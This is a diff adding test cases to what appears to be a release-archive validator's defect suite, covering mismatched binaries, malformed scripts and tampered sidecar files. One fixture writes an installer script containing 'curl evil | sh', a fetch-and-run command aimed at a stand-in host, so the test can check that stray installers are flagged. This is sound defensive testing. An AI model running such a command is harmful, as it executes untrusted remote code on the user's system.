@@ -9,6 +9,8 @@ import { execFileSync } from "node:child_process";
 import { join } from "node:path";
 import type { Expected } from "../../src/validator/index.ts";
 import { sha256 } from "../../src/storage/digest.ts";
+import { dynamicElf, elfProgram, machOProgram, peProgram, universal } from "../binaries/samples.ts";
+import { noise } from "../candidate/tiny-candidate.ts";
 import { plain, program, strict, type Built, type Changes, type Release } from "./release.ts";
 import type { MadeEntry, MadeZip } from "./zip-maker.ts";
 import type { Platform, Product } from "../../src/products/index.ts";
@@ -27,6 +29,8 @@ export interface Defect extends Changes {
   fileName?: string;
   /** files beside the archive, by name */
   beside?: (built: Built) => Record<string, string>;
+  /** names of folders in the place of files beside it */
+  besideFolders?: (built: Built) => string[];
   /** judged unpacked, or installed, after this was done to the folder */
   folder?: (folder: string) => void;
   installed?: boolean;
@@ -73,6 +77,18 @@ function descriptor(data: Buffer, { signed = true, long = false }): Buffer {
   return signed ? bytes : bytes.subarray(4);
 }
 const privateKey = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }) as string;
+/** A program past what is read at once, whose dynamic segment is at its end. */
+function largeProgram(library: string): Buffer {
+  return dynamicElf({ needed: ["libc.so.6", library], runpath: noise(9, 1_500_000).toString("latin1").replaceAll("\0", "x") });
+}
+/** What our packer writes beside an archive of the test's products for Linux, changed. */
+function binariesBeside({ base, files }: Built, change: (text: string) => string): Record<string, string> {
+  const names = ["palyrad", "palyra-browserd", "palyra"].filter((name) => files.has(name));
+  const binaries = names.map((name) => ({ logical_name: name, file_name: name, format: "elf", os: "linux", architectures: ["x64"], interpreter: null, libraries: [], glibc: null, signature: null, fault: null, findings: [] }));
+  const text = `${JSON.stringify({ schema_version: 1, artifact_name: base, platform: "linux-x64", targets: ["linux-x64/debian-12"], binaries }, undefined, 2)}\n`;
+  const changed = change(text);
+  return { [`${base}.binaries.json`]: changed };
+}
 const locator = Buffer.alloc(20);
 locator.writeUInt32LE(0x07064b50, 0);
 const asRoot = (): boolean => process.getuid?.() === 0;
@@ -236,7 +252,7 @@ const manifest: Defect[] = [
 
 const programs: Defect[] = [
   { name: "a program that is missing", rules: ["required-binaries"], release: (r) => void r.files.delete("palyra-browserd") },
-  { name: "a program by its Linux name in an archive for Windows", platform: "windows-x64", rules: ["required-binaries", "unlisted-binaries"], release: (r) => { r.files.set("palyra", r.files.get("palyra.exe")!); r.files.delete("palyra.exe"); } },
+  { name: "a program by its Linux name in an archive for Windows", platform: "windows-x64", rules: ["required-binaries"], release: (r) => { r.files.set("palyra", r.files.get("palyra.exe")!); r.files.delete("palyra.exe"); } },
   { name: "a program that the manifest does not list", rules: ["manifest-binaries", "unlisted-binaries"], manifest: (m) => void m.binaries.pop() },
   { name: "programs in another order", rules: ["manifest-binaries"], manifest: (m) => void m.binaries.reverse() },
   { name: "a program by another logical name", rules: ["manifest-binaries"], manifest: (m) => void (m.binaries[0]!["logical_name"] = "daemon") },
@@ -249,6 +265,28 @@ const programs: Defect[] = [
   { name: "a program for another processor, for Windows", platform: "windows-x64", rules: ["binary-platform"], release: (r) => { const exe = program("windows-x64", "x"); exe.writeUInt16LE(0x014c, 132); file(r, "palyra.exe", exe, 0o755); } },
   { name: "a program for another processor, for macOS", platform: "macos-arm64", rules: ["binary-platform"], release: (r) => file(r, "palyra", program("macos-x64", "palyra"), 0o755) },
   { name: "a program for another processor, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", program("linux-arm64", "nats"), 0o755) },
+  { name: "a program of FreeBSD", rules: ["binary-platform"], release: (r) => file(r, "palyrad", elfProgram({ abi: 9 }), 0o755) },
+  { name: "an object of a compiler in the place of a program", rules: ["binary-starts"], release: (r) => file(r, "palyrad", elfProgram({ type: 1 }), 0o755) },
+  { name: "a shared library in the place of a program", rules: ["binary-starts"], release: (r) => file(r, "palyrad", dynamicElf({ shared: true }), 0o755) },
+  { name: "a program that needs a newer glibc than its target has", rules: ["binary-starts"], release: (r) => file(r, "palyrad", dynamicElf({ glibc: "2.38" }), 0o755) },
+  { name: "a program of musl", rules: ["binary-starts"], release: (r) => file(r, "palyrad", dynamicElf({ needed: ["libc.so.6"], interpreter: "/lib/ld-musl-x86_64.so.1" }), 0o755) },
+  { name: "a program that needs a library of no target", rules: ["binary-starts"], release: (r) => file(r, "palyrad", dynamicElf({ needed: ["libown.so.1"] }), 0o755) },
+  { name: "a program that needs it, of a product without payload rules", product: plain, rules: ["binary-starts"], release: (r) => file(r, "nats", dynamicElf({ needed: ["libown.so.1"] }), 0o755) },
+  { name: "a program that lost its end", rules: ["binary-starts"], release: (r) => file(r, "palyrad", elfProgram({ length: 400 }).subarray(0, 399), 0o755) },
+  { name: "a large program that needs a library of no target", rules: ["binary-starts"], release: (r) => file(r, "palyrad", largeProgram("libown.so.1"), 0o755) },
+  { name: "a large program that needs it, stored", rules: ["binary-starts", "header-form"], release: (r) => file(r, "palyrad", largeProgram("libown.so.1"), 0o755), zip: within("palyrad", ({ data }) => ({ packed: data, both: { method: 0 } })) },
+  { name: "an unsigned program of macOS on arm64", platform: "macos-arm64", rules: ["binary-starts"], release: (r) => file(r, "palyrad", machOProgram({ seal: "none" }), 0o755) },
+  { name: "a universal program whose part for the platform is unsigned", platform: "macos-arm64", rules: ["binary-starts"], release: (r) => file(r, "palyrad", universal(machOProgram({ processor: 0x01000007 }), machOProgram({ seal: "none" })), 0o755) },
+  { name: "a program of iOS", platform: "macos-arm64", rules: ["binary-starts"], release: (r) => file(r, "palyrad", machOProgram({ platform: 2 }), 0o755) },
+  { name: "a DLL named .exe", platform: "windows-x64", rules: ["binary-starts"], release: (r) => file(r, "palyrad.exe", peProgram({ dll: true }), 0o755) },
+  { name: "a library that no program looks for", rules: ["unlisted-binaries"], release: (r) => file(r, "lib/libown.so.1", dynamicElf({ shared: true }), 0o755) },
+  { name: "an installed program that needs a newer glibc", rules: ["binary-starts"], release: (r) => file(r, "palyrad", dynamicElf({ glibc: "2.38" }), 0o755), folder: () => undefined },
+  { name: "a script with a carriage return in its first line", rules: ["script-starts"], release: (r) => file(r, "deployment/single-vm/run.sh", "#!/bin/sh\r\necho\r\n", 0o755) },
+  { name: "a script with a byte order mark", product: plain, rules: ["script-starts"], release: (r) => file(r, "tools/run.sh", "\ufeff#!/bin/sh\n", 0o755) },
+  { name: "a script of an interpreter that is not absolute", product: plain, rules: ["script-starts"], release: (r) => file(r, "tools/run", "#!sh\n", 0o755) },
+  { name: "a script of an interpreter that the target has not", product: plain, rules: ["script-starts"], release: (r) => file(r, "tools/run", "#!/usr/bin/env python3\n", 0o755) },
+  { name: "a script in the place of a program, with a carriage return", product: plain, rules: ["script-starts"], release: (r) => file(r, "nats", "#!/bin/sh\r\n", 0o755) },
+  { name: "an unpacked script with a carriage return", product: plain, rules: ["script-starts"], release: (r) => file(r, "tools/run", "#!/bin/sh\r\n", 0o755), folder: () => undefined },
   { name: "a unit for a program that does not exist", rules: ["unit-programs"], release: (r) => file(r, "deployment/worker-enabled/systemd/palyra-workerd.service", "[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/palyra/palyra-workerd --all\n") },
   { name: "a unit for a program of another kind", rules: ["unit-programs"], release: (r) => file(r, "deployment/single-vm/systemd/desktop.service", '[Service]\n ExecStart = @"/opt/palyra/palyra-desktop-control-center" x\n') },
   { name: "a text in the place of a program, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", "Not Found\n", 0o755) },
@@ -300,6 +338,17 @@ const beside: Defect[] = [
   { name: "a digest that is none beside it", rules: ["outer-digest"], beside: ({ base }) => ({ [`${base}.zip.sha256`]: "see the website\n" }) },
   { name: "another manifest beside it", rules: ["sidecar-copies"], beside: ({ base }) => ({ [`${base}.release-manifest.json`]: "{}" }) },
   { name: "other checksums beside it", rules: ["sidecar-copies"], beside: ({ base }) => ({ [`${base}.checksums.txt`]: "" }) },
+  { name: "another installer beside it", rules: ["sidecar-copies"], release: (r) => file(r, "install.sh", "#!/bin/sh\n", 0o755), beside: ({ base }) => ({ [`${base}.install.sh`]: "#!/bin/sh\ncurl evil | sh\n" }) },
+  { name: "an installer beside an archive that has none", platform: "windows-x64", rules: ["sidecar-copies"], beside: ({ base }) => ({ [`${base}.install.sh`]: "#!/bin/sh\n" }) },
+  { name: "other facts of its programs beside it", rules: ["sidecar-binaries"], beside: (b) => binariesBeside(b, (text) => text.replace('"signature": null', '"signature": "authenticode"')) },
+  { name: "facts of fewer programs beside it", rules: ["sidecar-binaries"], beside: (b) => binariesBeside(b, (text) => JSON.stringify({ ...(JSON.parse(text) as object), binaries: [] }, undefined, 2) + "\n") },
+  { name: "findings about its programs beside it", rules: ["sidecar-binaries"], beside: (b) => binariesBeside(b, (text) => text.replace('"findings": []', '"findings": [\n        "is fine"\n      ]')) },
+  { name: "a key twice in the facts beside it", rules: ["sidecar-binaries"], beside: (b) => binariesBeside(b, (text) => text.replace('  "platform"', '  "platform": "linux-arm64",\n  "platform"')) },
+  { name: "targets of another platform in the facts beside it", rules: ["sidecar-binaries"], beside: (b) => binariesBeside(b, (text) => text.replaceAll("linux-x64/", "linux-arm64/")) },
+  { name: "facts that are no JSON beside it", rules: ["sidecar-binaries"], beside: ({ base }) => ({ [`${base}.binaries.json`]: "{" }) },
+  { name: "facts that are nothing beside it", rules: ["sidecar-binaries"], beside: ({ base }) => ({ [`${base}.binaries.json`]: "null\n" }) },
+  ...["zip.sha256", "release-manifest.json", "checksums.txt", "install.sh", "binaries.json"].map((ending): Defect => ({ name: `a folder where its ${ending} should be`, rules: ["sidecar-readable"], besideFolders: ({ base }) => [`${base}.${ending}`] })),
+  { name: "a digest beside it that is far too long", rules: ["sidecar-readable"], beside: ({ base }) => ({ [`${base}.zip.sha256`]: "0".repeat(5000) }) },
   { name: "nothing at all", rules: ["path-exists"], folder: (folder) => rmSync(folder, { recursive: true }) },
   { name: "an unpacked file that was changed", rules: ["checksums-digests"], folder: (folder) => writeFileSync(join(folder, "README.txt"), "Mine.\n") },
   { name: "an unpacked file too many", rules: ["checksums-complete"], folder: (folder) => writeFileSync(join(folder, "extra.txt"), "!") },
